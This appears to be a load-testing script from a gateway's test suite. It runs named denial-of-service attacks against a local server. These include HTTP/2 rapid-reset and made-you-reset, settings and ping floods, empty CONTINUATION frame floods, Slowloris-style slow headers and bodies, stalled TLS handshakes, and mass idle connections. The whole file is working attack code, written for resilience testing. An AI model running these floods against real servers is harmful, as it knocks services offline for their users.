// One attack on the gateway, in a process of its own: node attack.mjs NAME PORT TLS_PORT SECONDS. It prints what it has sent.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'

const [name, port, tlsPort, seconds] = [process.argv[2], ...process.argv.slice(3).map(Number)]
const end = Date.now() + seconds * 1000
const over = () => Date.now() > end
const sockets = new Set()
let sent = 0
let opened = 0

/** A connection; `drop` reads and forgets what comes, else nothing is ever read. */
function open ({ to = port, drop = true, secure = false } = {}) {
  const socket = secure ? connectTls({ port: to, host: '127.0.0.1', rejectUnauthorized: false }) : connect(to, '127.0.0.1')
  opened++
  sockets.add(socket)
  socket.setNoDelay(true)
  socket.on('error', () => {})
  socket.on('close', () => sockets.delete(socket))
  if (drop) socket.resume()
  else socket.pause()
  return socket
}

/** Writes as fast as the other end takes it, on `count` connections that are opened again when they end. */
async function flood (count, begin, piece, options) {
  await Promise.all(Array.from({ length: count }, async () => {
    while (!over()) {
      const socket = open(options)
      const gone = new Promise(resolve => socket.on('close', resolve))
      const state = { stream: 1 }
      socket.write(begin)
      while (!over() && !socket.destroyed) {
        const bytes = piece(state)
        sent += bytes.length
        if (!socket.write(bytes)) {
          await Promise.race([new Promise(resolve => socket.once('drain', resolve)), gone, sleep(500)])
        } else {
          await new Promise(setImmediate)
        }
      }
      socket.destroy()
      await sleep(5)
    }
  }))
}

/** Opens `count` connections that say `begin`, and then on each `trickle` every `pause` milliseconds. */
async function hold (count, begin, { trickle, pause = 500, options, batch = 250 } = {}) {
  const all = []
  for (let n = 0; n < count && !over(); n++) {
    const socket = open(options)
    const bytes = typeof begin === 'function' ? begin(n) : begin
    if (bytes?.length) socket.write(bytes)
    sent += bytes?.length ?? 0
    all.push(socket)
    if (n % batch === batch - 1) await sleep(10)
  }
  while (!over()) {
    await sleep(pause)
    if (!trickle) continue
    for (const socket of all) {
      if (socket.destroyed) continue
      socket.write(trickle)
      sent += trickle.length
    }
  }
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
function frame (kind, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = kind
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
const text = string => Buffer.concat([Buffer.from([string.length]), Buffer.from(string)])
const block = (method, path) => Buffer.concat(
  [[':method', method], [':scheme', 'http'], [':authority', '127.0.0.1'], [':path', path]]
    .flatMap(([key, value]) => [Buffer.from([0]), text(key), text(value)]))
const GET = block('GET', '/x')
const LARGE = block('GET', '/large')
const POST = block('POST', '/x')
const hello = Buffer.concat([PREFACE, frame(4, 0, 0)])
const times = (count, make) => Buffer.concat(Array.from({ length: count }, make))
/** The next stream of a connection. */
const next = state => { const stream = state.stream; state.stream = stream + 2; return stream }
const zero = Buffer.from([0, 0, 0, 0])
const head = (method, path, more = '') => `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${more}`

const attacks = {
  'rapid-reset': () => flood(4, hello, state => times(100, () => {
    const stream = next(state)
    return Buffer.concat([frame(1, 5, stream, GET), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))])
  })),
  // The client breaks its own streams so that the server resets them: a window of nothing, and data after the end.
  'made-you-reset': () => flood(4, hello, state => times(100, () => {
    const stream = next(state)
    return Buffer.concat([frame(1, 5, stream, GET), stream % 4 === 1 ? frame(8, 0, stream, zero) : frame(0, 1, stream)])
  })),
  'settings-flood': () => flood(4, hello, () => times(500, () => frame(4, 0, 0))),
  'settings-flood-unread': () => flood(20, hello, () => times(500, () => frame(4, 0, 0)), { drop: false }),
  'ping-flood': () => flood(4, hello, () => times(500, () => frame(6, 0, 0, Buffer.alloc(8)))),
  'ping-flood-unread': () => flood(20, hello, () => times(500, () => frame(6, 0, 0, Buffer.alloc(8))), { drop: false }),
  'empty-continuations': () => flood(4, Buffer.concat([hello, frame(1, 1, 1, GET)]), () => times(500, () => frame(9, 0, 1))),
  'empty-data': () => flood(4, Buffer.concat([hello, frame(1, 4, 1, POST)]), () => times(500, () => frame(0, 0, 1))),
  'slow-heads': () => hold(1000, head('GET', '/x'), { trickle: 'x' }),
  'slow-bodies': () => hold(1000, head('POST', '/x', 'Content-Length: 100000\r\n\r\n'), { trickle: 'x' }),
  'answers-never-read': () => hold(200, head('GET', '/large', '\r\n'), { options: { drop: false } }),
  'windows-never-opened': () => hold(20, () => Buffer.concat([hello, times(100, (_, n) => frame(1, 5, 2 * n + 1, LARGE))]), { batch: 3 }),
  'unfinished-handshakes': () => hold(1000, Buffer.from([0x16, 3, 1, 2, 0, 1]), { options: { to: tlsPort } }),
  'blank-lines': () => flood(8, '', () => Buffer.from('\r\n'.repeat(8192))),
  'endless-heads': () => flood(8, head('GET', '/x'), () => Buffer.from('X: y\r\n'.repeat(4096))),
  'endless-trailers': () => flood(8, head('POST', '/x', 'Transfer-Encoding: chunked\r\n\r\n0\r\n'), () => Buffer.from('X: y\r\n'.repeat(4096))),
  'idle-connections': () => hold(10_000, '', { batch: 100 }),
  'idle-after-a-request': () => hold(10_000, head('GET', '/x', '\r\n'), { batch: 100 }),
  'idle-tls': () => hold(2000, head('GET', '/x', '\r\n'), { batch: 20, options: { to: tlsPort, secure: true } }),
  'idle-http2': () => hold(5000, Buffer.concat([hello, frame(1, 5, 1, GET)]), { batch: 100 })
}

if (name === '--names') {
  console.log(Object.keys(attacks).join('\n'))
} else {
  const most = setInterval(() => process.stdout.write(`${sockets.size} open\n`), 500)
  await attacks[name]()
  clearInterval(most)
  for (const socket of sockets) socket.destroy()
  console.log(`sent ${sent} bytes on ${opened} connections`)
}
